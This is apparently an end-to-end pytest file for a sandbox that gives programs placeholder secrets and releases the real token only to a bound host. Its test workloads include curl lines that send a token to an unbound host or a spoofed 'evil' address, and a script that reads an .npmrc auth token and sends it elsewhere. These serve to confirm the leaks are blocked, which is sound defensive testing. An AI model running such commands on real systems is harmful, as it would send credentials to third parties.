"""Issue 15: placeholder secrets through a real gateway and the demo internet.

The sandbox's TOKEN is a placeholder; the demo internet's server records what arrives
(``/record`` paths): the real value arrives at the bound host only (URL, header, Basic
auth, body, over HTTP and over HTTPS terminated for that host alone); a placeholder
sent to another host, or to another address under the bound name, is refused (403, the
server sees nothing) and logged as a ``leak`` naming the secret. No file of the session
folder, nothing coderun printed, holds the real value.
"""

from __future__ import annotations

import base64
import json
import os
import secrets
from collections.abc import Callable
from pathlib import Path

import pytest

from sandbox.internet import DemoInternet
from snitch.core.logentry import EntryKind
from tests.e2e.conftest import Result

pytestmark = pytest.mark.docker


def records(internet: DemoInternet, since: int) -> list[dict[str, object]]:
    out = []
    for line in internet.logs(since).splitlines():
        if line.startswith("RECORD "):
            out.append(json.loads(line[7:]))
    return out


def workload(evil_ip: str) -> str:
    curl = "curl -sS -o /dev/null -w '%{http_code}\\n' --max-time 10"
    return "; ".join(
        [
            'echo "env: $TOKEN"',
            f'{curl} -u "me:$TOKEN" -H "X-Token: $TOKEN" --data "token=$TOKEN" '
            'http://api.example.test/record/http/$TOKEN',
            f'{curl} -H "Authorization: Bearer $TOKEN" https://api.example.test/record/https',
            f'{curl} -H "X-Token: $TOKEN" http://other.example.test/record/leak',
            # The bound name, another address: the Host header does not vouch for it.
            f'{curl} -H "X-Token: $TOKEN" --resolve api.example.test:80:{evil_ip} '
            "http://api.example.test/record/fronted",
            f"{curl} https://other.example.test/record/untouched",  # TLS end to end
            "true",
        ]
    )


def test_a_placeholder_becomes_the_value_only_at_its_bound_host(
    run_coderun: Callable[..., Result], internet: DemoInternet, home: Path, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    value = "real-" + secrets.token_hex(12)
    monkeypatch.setenv("TOKEN", value)
    ca = tmp_path / "internet-ca.pem"
    ca.write_bytes(internet.ca_pem())
    since = len(internet.logs())
    result = run_coderun(
        "--mode", "audit", "--upstream-ca", str(ca),
        "--secret", "TOKEN", "--secret-host", "TOKEN=api.example.test",
        "--", "sh", "-c", workload(internet.hosts["evil.example.test"]),
    )  # fmt: skip
    assert result.status == 0, result.stderr
    out = result.stdout.splitlines()
    assert out[0].startswith("env: coderun-secret-"), out  # the sandbox has the placeholder
    placeholder = out[0].removeprefix("env: ")
    # HTTP and HTTPS to the bound host: 200; the leak and the fronted request: 403;
    # TLS to another host (not intercepted): curl trusts only coderun's CA there -> 000.
    assert out[1:] == ["200", "200", "403", "403", "000"], (out, result.stderr)

    got = {str(r["path"]).split("/")[2]: r for r in records(internet, since)}
    assert set(got) == {"http", "https"}, got  # nothing of the leak reached a server
    http = got["http"]
    headers = http["headers"]
    assert isinstance(headers, dict)
    assert http["path"] == f"/record/http/{value}"
    assert headers["x-token"] == value
    assert base64.b64decode(headers["authorization"].split()[1]).decode() == f"me:{value}"
    assert http["body"] == f"token={value}"
    https_headers = got["https"]["headers"]
    assert isinstance(https_headers, dict)
    assert https_headers["authorization"] == f"Bearer {value}"

    leaks = [e for e in result.log if e.kind is EntryKind.LEAK]
    assert sorted(e.names[0] for e in leaks) == ["api.example.test", "other.example.test"]
    assert all("TOKEN" in e.reason and e.verdict == "deny" for e in leaks)
    tls = [e for e in result.log if e.kind is EntryKind.TLS]
    assert [e.sni for e in tls] == ["other.example.test"]  # relayed, not intercepted
    # The log keeps what the sandbox sent (the placeholder), never the value.
    urls = [e.url for e in result.log if e.kind is EntryKind.HTTP]
    assert f"http://api.example.test/record/http/{placeholder}" in urls

    # Nothing on the host's side holds the value: the session folder, logs, output.
    for path in home.rglob("*"):
        if path.is_file():
            assert value.encode() not in path.read_bytes(), path
    assert value not in result.stdout and value not in result.stderr


def test_ask_mode_synthetic_addresses_still_release_to_the_bound_host(
    run_coderun: Callable[..., Result], internet: DemoInternet, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    """In ask mode the sandbox gets synthetic addresses: the bound host is recognised by
    the synthetic address given for its name (rules decide here; nobody is asked)."""
    value = "real-" + secrets.token_hex(12)
    monkeypatch.setenv("TOKEN", value)
    ca = tmp_path / "internet-ca.pem"
    ca.write_bytes(internet.ca_pem())
    policy = tmp_path / "policy.toml"
    policy.write_text('[[rule]]\naction = "allow"\nhost = "api.example.test"\n')
    since = len(internet.logs())
    curl = "curl -sS -o /dev/null -w '%{http_code}\\n' --max-time 10"
    result = run_coderun(
        "--mode", "ask", "--prompt", "none", "--policy", str(policy), "--upstream-ca", str(ca),
        "--secret", "TOKEN", "--secret-host", "TOKEN=api.example.test", "--", "sh", "-c",
        f'{curl} -H "X-Token: $TOKEN" http://api.example.test/record/ask; '
        f'{curl} -H "X-Token: $TOKEN" https://api.example.test/record/asktls',
    )  # fmt: skip
    assert result.status == 0, result.stderr
    assert result.stdout.split() == ["200", "200"], result.stderr
    got = records(internet, since)
    assert [r["path"] for r in got] == ["/record/ask", "/record/asktls"]
    assert all(r["headers"]["x-token"] == value for r in got)  # type: ignore[index]
    assert not [e for e in result.log if e.kind is EntryKind.LEAK]


def test_a_secret_file_shows_placeholders_released_only_to_its_host(
    run_coderun: Callable[..., Result], internet: DemoInternet, home: Path, tmp_path: Path,
) -> None:  # fmt: skip
    """--secret-file: the sandbox reads the credentials file with a placeholder where the
    token is; sent to the bound host the real value arrives, sent elsewhere it is refused
    and logged as a leak; the real file is never served."""
    value = "npm_" + secrets.token_hex(12)
    creds = tmp_path / "creds" / ".npmrc"
    creds.parent.mkdir()
    creds.write_text(f"registry=http://api.example.test/\n//api.example.test/:_authToken={value}\n")
    os.chmod(tmp_path, 0o755)
    os.chmod(creds.parent, 0o755)
    since = len(internet.logs())
    curl = "curl -sS -o /dev/null -w '%{http_code}\\n' --max-time 10"
    script = "; ".join([
        "cat /home/coderun/.npmrc",
        "T=$(sed -n 's/.*_authToken=//p' /home/coderun/.npmrc)",
        f'{curl} -H "Authorization: Bearer $T" http://api.example.test/record/npm',
        f'{curl} -H "Authorization: Bearer $T" http://other.example.test/record/leak',
        "true",
    ])  # fmt: skip
    result = run_coderun(
        "--mode", "audit",
        "--secret-file", f"{creds}:/home/coderun/.npmrc=api.example.test",
        "--", "sh", "-c", script,
    )  # fmt: skip
    assert result.status == 0, result.stderr
    out = result.stdout.splitlines()
    assert out[0] == "registry=http://api.example.test/", out
    assert out[1].startswith("//api.example.test/:_authToken=coderun-secret-"), out
    assert value not in result.stdout
    assert out[2:] == ["200", "403"], (out, result.stderr)
    got = {str(r["path"]).split("/")[2]: r for r in records(internet, since)}
    assert set(got) == {"npm"}, got
    headers = got["npm"]["headers"]
    assert isinstance(headers, dict) and headers["authorization"] == f"Bearer {value}"
    leaks = [e for e in result.log if e.kind is EntryKind.LEAK]
    assert [e.names[0] for e in leaks] == ["other.example.test"]
    assert "npmrc__authToken" in leaks[0].reason
    for path in home.rglob("*"):
        if path.is_file():
            assert value.encode() not in path.read_bytes(), path
    assert value not in result.stderr
